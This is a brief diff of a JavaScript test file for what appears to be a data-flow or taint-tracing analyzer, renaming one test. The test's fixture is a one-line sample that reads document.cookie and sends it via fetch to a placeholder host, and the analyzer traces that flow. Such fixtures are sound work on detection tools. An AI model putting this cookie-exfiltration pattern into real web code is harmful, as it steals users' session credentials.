@@ -53,7 +53,7 @@ describe("origins", () => {
 		expect(kinds).toEqual(kind === "nothing" ? [] : [kind]);
 	});
 
-	test("each station of the way is told, in order", () => {
+	test("each step of the path is recorded, in order", () => {
 		const code = 'const jar = document.cookie;\nfunction send(text) { fetch("https://c.test/?" + text); }\nsend(jar);';
 		const steps = traceOf(code).sinks[0]?.carried[0]?.steps ?? [];
 		expect(steps.map(({ description }) => description)).toEqual([
